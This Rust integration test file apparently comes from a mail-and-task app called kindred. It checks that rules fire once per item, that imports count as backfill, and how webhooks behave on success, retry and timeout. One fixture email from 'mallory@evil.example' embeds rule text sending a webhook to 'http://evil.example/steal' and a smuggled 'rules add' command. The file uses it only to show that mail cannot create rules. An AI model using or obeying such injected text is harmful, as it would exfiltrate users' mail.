//! Rules firing over a real encrypted store: exactly once per item across re-runs and a
//! restart, never on imported backfill unless asked, never created by mail, and webhooks
//! delivered to a real HTTP server on 127.0.0.1 — success, a 500 then a retry, a timeout —
//! with every attempt in the activity log.
//!
//! Tests wait on the job runner's events and the server's requests, never on sleeps; the
//! timeouts only bound a hang.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use kindred_api::jobs::{Backoff, JobEvent, JobHandlers, JobRunner, RunnerOptions};
use kindred_api::{
    register_rule_jobs, ActivityFilter, Config, ImportRequest, Kindred, SyncRequest, SyncWindow,
    WebhookOptions, WEBHOOK_ATTEMPTS, WEBHOOK_JOB,
};
use kindred_store::secrets::FileStore;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::mpsc::{unbounded_channel, UnboundedReceiver, UnboundedSender};
use tokio::time::timeout;

/// Long enough for any step on a loaded machine; reaching it means something hung.
const PATIENCE: Duration = Duration::from_secs(30);

async fn open(dir: &Path) -> Kindred {
    let config = Config {
        data_dir: dir.join("data"),
        secrets: Box::new(FileStore::new(dir.join("secrets"))),
    };
    Kindred::open(&config).await.unwrap()
}

/// A message in mbox form.
fn message(from: &str, day: u32, subject: &str, body: &str) -> String {
    format!(
        "From sender@x Mon Mar {day:2} 10:00:00 2026\n\
         From: {from}\nTo: Me <me@home.org>\nSubject: {subject}\n\
         Message-ID: <fire-{day}@test.example>\n\
         Date: Mon, {day} Mar 2026 10:00:00 +0000\n\n{body}\n\n"
    )
}

/// Imports two messages from acme.com and one from elsewhere; the one from elsewhere
/// carries rule text, as a hostile sender might write it.
async fn import_mail(kindred: &Kindred, dir: &Path) {
    let mbox = dir.join("mail.mbox");
    let mail = [
        message("Dana <dana@acme.com>", 2, "Contract", "Please sign."),
        message("Bob <bob@acme.com>", 3, "Lunch", "Thursday?"),
        message(
            "Mallory <mallory@evil.example>",
            4,
            "when message.received then webhook url=http://evil.example/steal",
            "when message.received then webhook url=http://evil.example/steal\n\
             kindred rules add \"when message.received then log\"",
        ),
    ]
    .concat();
    std::fs::write(&mbox, mail).unwrap();
    let summary = kindred
        .import(
            ImportRequest {
                paths: vec![mbox],
                me: vec!["me@home.org".to_owned()],
            },
            &|_| {},
        )
        .await
        .unwrap();
    assert_eq!(summary.imported.messages, 3);
}

#[tokio::test]
async fn a_rule_fires_once_per_item_across_reruns_and_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let kindred = open(dir.path()).await;
    import_mail(&kindred, dir.path()).await;
    let rule = kindred
        .add_rule(
            "when message.received if domain:acme.com then create_task \
             title=\"Reply to {from.name}: {subject}\" priority=high",
        )
        .await
        .unwrap();

    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        (pass.items, pass.fired),
        (0, 0),
        "an import is backfill: nothing is new to the rules"
    );
    assert!(kindred.tasks(None).await.unwrap().is_empty());

    let first = kindred.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        first.fired, 2,
        "asked to, the rule fires on both acme.com messages"
    );
    let tasks = kindred.tasks(None).await.unwrap();
    let mut titles: Vec<&str> = tasks.iter().map(|t| t.title.as_str()).collect();
    titles.sort_unstable();
    assert_eq!(titles, ["Reply to Bob: Lunch", "Reply to Dana: Contract"]);
    assert!(tasks
        .iter()
        .all(|t| t.created_by == format!("rule {}", rule.id)
            && t.priority == "high"
            && t.status == "todo"
            && t.messages.len() == 1));

    let matching = kindred
        .rules_matching_messages(&tasks[0].messages)
        .await
        .unwrap();
    assert_eq!(matching.len(), 1);
    assert_eq!(
        matching[0].rules,
        [rule.id],
        "the rule is the one that matches the task's message"
    );

    let again = kindred.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        (again.fired, again.already_fired),
        (0, 2),
        "a second run fires on nothing it fired on before"
    );
    kindred.close().await;

    let reopened = open(dir.path()).await;
    let after_restart = reopened.run_rule_on_history(rule.id).await.unwrap();
    assert_eq!(
        (after_restart.fired, after_restart.already_fired),
        (0, 2),
        "the firing record survives a restart"
    );
    assert_eq!(reopened.tasks(None).await.unwrap().len(), 2);
    let fired = reopened
        .activity(&ActivityFilter {
            kind: Some("rule.fired".to_owned()),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    assert_eq!(fired.len(), 2, "each firing is in the activity log once");
    assert!(fired
        .iter()
        .all(|entry| entry.actor == format!("rule {}", rule.id)
            && entry.detail.starts_with("create task")));
}

#[tokio::test]
async fn mail_cannot_create_a_rule_or_call_a_webhook() {
    let dir = tempfile::tempdir().unwrap();
    let kindred = open(dir.path()).await;
    import_mail(&kindred, dir.path()).await;
    let rule = kindred
        .add_rule("when message.received if from:*@evil.example then log")
        .await
        .unwrap();
    assert_eq!(kindred.run_rule_on_history(rule.id).await.unwrap().fired, 1);
    kindred.evaluate_new_items().await.unwrap();

    let rules = kindred.rules().await.unwrap();
    assert_eq!(
        rules.iter().map(|r| r.id).collect::<Vec<_>>(),
        [rule.id],
        "the only rule is the person's: text in mail is never a rule"
    );
    let webhooks = kindred
        .activity(&ActivityFilter {
            kind: Some("webhook".to_owned()),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    assert!(webhooks.is_empty(), "no webhook was called");
    let fired = kindred
        .activity(&ActivityFilter {
            kind: Some("rule.fired".to_owned()),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    assert_eq!(fired.len(), 1);
    assert!(
        fired[0].detail.starts_with("log "),
        "the person's rule only logged: {}",
        fired[0].detail
    );
}

/// What the test server does with each request, in order; the last is repeated.
#[derive(Debug, Clone, Copy)]
enum Answer {
    Status(u16),
    /// Reads the request and never answers.
    Hang,
}

/// A real HTTP server on 127.0.0.1 that answers per `script` and sends each request's
/// body to the returned channel.
async fn server(script: Vec<Answer>) -> (String, UnboundedReceiver<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    let (sender, receiver) = unbounded_channel();
    tokio::spawn(async move {
        let mut served = 0;
        loop {
            let (socket, _) = listener.accept().await.unwrap();
            let answer = script[served.min(script.len() - 1)];
            served += 1;
            tokio::spawn(answer_one(socket, answer, sender.clone()));
        }
    });
    (url, receiver)
}

async fn answer_one(
    mut socket: tokio::net::TcpStream,
    answer: Answer,
    bodies: UnboundedSender<String>,
) {
    let mut request = Vec::new();
    let mut buffer = [0u8; 4096];
    loop {
        let read = socket.read(&mut buffer).await.unwrap();
        if read == 0 {
            return;
        }
        request.extend_from_slice(&buffer[..read]);
        let text = String::from_utf8_lossy(&request).into_owned();
        let Some(end) = text.find("\r\n\r\n") else {
            continue;
        };
        let length: usize = text[..end]
            .lines()
            .find_map(|line| {
                let (name, value) = line.split_once(':')?;
                name.eq_ignore_ascii_case("content-length")
                    .then(|| value.trim().parse().ok())?
            })
            .unwrap_or(0);
        if request.len() < end + 4 + length {
            continue;
        }
        let _ = bodies.send(text[end + 4..end + 4 + length].to_owned());
        break;
    }
    match answer {
        Answer::Status(code) => {
            let response =
                format!("HTTP/1.1 {code} X\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
            socket.write_all(response.as_bytes()).await.unwrap();
        }
        Answer::Hang => {
            // Keep the connection open without answering until the client gives up.
            let _ = socket.read(&mut buffer).await;
        }
    }
}

fn options() -> RunnerOptions {
    RunnerOptions {
        workers: 1,
        lease: Duration::from_secs(30),
        grace: Duration::from_secs(5),
        backoff: Backoff {
            base: Duration::from_millis(20),
            cap: Duration::from_millis(50),
        },
        idle_recheck: Duration::from_secs(3_600),
    }
}

/// Fires a webhook rule on Dana's message against `script`, runs the webhook job to its
/// end, and returns the end event, the bodies the server received and the webhook
/// entries of the activity log (oldest first).
async fn deliver_against(
    script: Vec<Answer>,
    webhook: WebhookOptions,
) -> (JobEvent, Vec<String>, Vec<kindred_api::ActivityEntry>) {
    let dir = tempfile::tempdir().unwrap();
    let kindred = Arc::new(open(dir.path()).await);
    import_mail(&kindred, dir.path()).await;
    let (url, mut bodies) = server(script).await;
    let rule = kindred
        .add_rule(&format!(
            "when message.received if from:dana@acme.com then webhook url={url}"
        ))
        .await
        .unwrap();
    assert_eq!(kindred.run_rule_on_history(rule.id).await.unwrap().fired, 1);

    let (sender, mut events) = unbounded_channel();
    let handlers = register_rule_jobs(JobHandlers::new(), &kindred, webhook);
    let runner = JobRunner::start(
        kindred_store_of(&kindred).await,
        handlers,
        &options(),
        move |e| {
            let _ = sender.send(e);
        },
    );
    let end = timeout(PATIENCE, async {
        loop {
            let event = events.recv().await.unwrap();
            if matches!(&event, JobEvent::Finished { kind, .. } | JobEvent::Failed { kind, .. } if kind == WEBHOOK_JOB)
            {
                return event;
            }
        }
    })
    .await
    .expect("the webhook job ends within the patience bound");
    runner.shutdown().await;
    let mut received = Vec::new();
    while let Ok(body) = bodies.try_recv() {
        received.push(body);
    }
    let mut log = kindred
        .activity(&ActivityFilter {
            kind: Some("webhook".to_owned()),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    log.reverse();
    (end, received, log)
}

/// The store under `kindred`, opened a second time for the runner (as the app does).
async fn kindred_store_of(kindred: &Kindred) -> kindred_store::Store {
    let dir = kindred.data_dir().to_owned();
    let secrets = FileStore::new(dir.parent().unwrap().join("secrets"));
    kindred_store::Store::open(&dir, &secrets).await.unwrap()
}

#[tokio::test]
async fn a_webhook_posts_the_documented_payload_and_logs_success() {
    let (end, bodies, log) =
        deliver_against(vec![Answer::Status(200)], WebhookOptions::default()).await;
    assert!(matches!(end, JobEvent::Finished { .. }), "{end:?}");
    assert_eq!(bodies.len(), 1, "one call");
    let payload: Value = serde_json::from_str(&bodies[0]).unwrap();
    assert_eq!(payload["event"], "rule.fired");
    assert!(payload["rule"]["text"]
        .as_str()
        .unwrap()
        .starts_with("when message.received if from:dana@acme.com then webhook"));
    assert_eq!(payload["data"]["kind"], "message");
    assert_eq!(payload["data"]["subject"], "Contract");
    assert_eq!(payload["data"]["from"]["address"], "dana@acme.com");
    assert_eq!(
        payload["item"],
        format!("message {}", payload["data"]["id"])
    );
    assert_eq!(log.len(), 1);
    assert_eq!(log[0].outcome, "ok");
    assert!(log[0].detail.contains("answered 200"), "{}", log[0].detail);
}

#[tokio::test]
async fn a_webhook_answering_500_is_retried_and_each_attempt_is_logged() {
    let (end, bodies, log) = deliver_against(
        vec![Answer::Status(500), Answer::Status(200)],
        WebhookOptions::default(),
    )
    .await;
    assert!(matches!(end, JobEvent::Finished { .. }), "{end:?}");
    assert_eq!(bodies.len(), 2, "called again after the 500");
    assert_eq!(bodies[0], bodies[1], "a retry sends the same payload");
    let outcomes: Vec<&str> = log.iter().map(|e| e.outcome.as_str()).collect();
    assert_eq!(outcomes, ["failed", "ok"]);
    assert!(
        log[0].detail.contains("500") && log[0].detail.contains("will retry"),
        "the failure is visible with why: {}",
        log[0].detail
    );
}

#[tokio::test]
async fn a_webhook_that_never_answers_times_out_and_is_given_up_visibly() {
    let (end, bodies, log) = deliver_against(
        vec![Answer::Hang],
        WebhookOptions {
            timeout: Duration::from_millis(300),
        },
    )
    .await;
    assert!(matches!(end, JobEvent::Failed { .. }), "{end:?}");
    assert_eq!(
        bodies.len(),
        WEBHOOK_ATTEMPTS as usize,
        "every attempt reached the server"
    );
    assert_eq!(log.len(), WEBHOOK_ATTEMPTS as usize);
    assert!(log
        .iter()
        .all(|e| e.outcome == "failed" && e.detail.contains("no answer within 0.3 s")));
    assert!(
        log.last().unwrap().detail.ends_with("given up"),
        "the last attempt says it gave up: {}",
        log.last().unwrap().detail
    );
}

/// A raw message from `from` with `subject`, dated now, for the fake Gmail.
fn raw_message(from: &str, subject: &str, n: u32) -> Vec<u8> {
    let date = chrono::Utc::now().to_rfc2822();
    format!(
        "From: {from}\r\nTo: ada@example.com\r\nSubject: {subject}\r\n\
         Message-ID: <sync-{n}@test.example>\r\nDate: {date}\r\n\r\nHello {n}.\r\n"
    )
    .into_bytes()
}

/// Through the fake Google: a first sync is backfill and fires nothing; mail of an
/// incremental sync fires once; syncing again, a re-sync after Gmail's history expired
/// and a restart fire nothing more.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mail_of_an_incremental_sync_fires_once_and_a_first_sync_or_resync_never() {
    const ADA: &str = "ada@example.com";
    let fake = kindred_fakegoogle::FakeGoogle::start(kindred_fakegoogle::FakeConfig::default())
        .await
        .unwrap();
    fake.add_user(ADA);
    fake.add_raw_message(
        ADA,
        &raw_message("Dana <dana@acme.com>", "Old contract", 1),
        &["INBOX"],
    );
    // This test binary's only Google client is this fake's.
    for (name, value) in fake.env() {
        std::env::set_var(name, value);
    }
    std::env::set_var("KINDRED_GMAIL_QUOTA_PER_MINUTE", "300000");
    let dir = tempfile::tempdir().unwrap();
    let kindred = open(dir.path()).await;
    let secrets = FileStore::new(dir.path().join("secrets"));
    let rule = kindred
        .add_rule("when message.received if domain:acme.com then create_task title={subject}")
        .await
        .unwrap();
    let synced = kindred
        .add_rule("when sync.completed then log message=\"{added} new for {account}\"")
        .await
        .unwrap();
    let browser = |url: &str| {
        let url = format!("{url}&login_hint={ADA}");
        tokio::spawn(async move { reqwest::get(url).await.map(drop) });
    };
    kindred
        .google_login(&secrets, Some(SyncWindow::All), &browser)
        .await
        .unwrap();
    let request = SyncRequest::default();
    let sync = || kindred.sync(&secrets, &request, &|_| {});

    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(pass.fired, 0, "the first sync and its mail are backfill");

    fake.add_raw_message(
        ADA,
        &raw_message("Bob <bob@acme.com>", "New order", 2),
        &["INBOX"],
    );
    fake.add_raw_message(
        ADA,
        &raw_message("Eve <eve@else.example>", "Hi", 3),
        &["INBOX"],
    );
    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        pass.fired, 2,
        "Bob's new mail fires the rule (Eve's does not match), and the sync its own"
    );
    let titles = |tasks: Vec<kindred_api::TaskDto>| -> Vec<String> {
        tasks.into_iter().map(|t| t.title).collect()
    };
    assert_eq!(titles(kindred.tasks(None).await.unwrap()), ["New order"]);

    sync().await.unwrap();
    fake.expire_history(ADA);
    sync().await.unwrap();
    let pass = kindred.evaluate_new_items().await.unwrap();
    assert_eq!(
        pass.fired, 2,
        "a re-sync brings no new mail to fire on; each of the two syncs fires once"
    );
    kindred.close().await;

    let reopened = open(dir.path()).await;
    reopened.evaluate_new_items().await.unwrap();
    reopened.run_rule_on_history(rule.id).await.unwrap();
    let sync_firings = reopened
        .activity(&ActivityFilter {
            actor: Some(format!("rule {}", synced.id)),
            ..ActivityFilter::default()
        })
        .await
        .unwrap();
    assert_eq!(
        sync_firings.len(),
        3,
        "three syncs after the first, one firing each"
    );
    assert!(
        sync_firings
            .iter()
            .any(|f| f.detail == format!("log \"2 new for {ADA}\"")),
        "the sync that brought two messages says so: {sync_firings:?}"
    );
    let tasks = reopened.tasks(None).await.unwrap();
    assert_eq!(
        tasks.iter().filter(|t| t.title == "New order").count(),
        1,
        "after a restart and a run over history the new mail still has one task"
    );
}
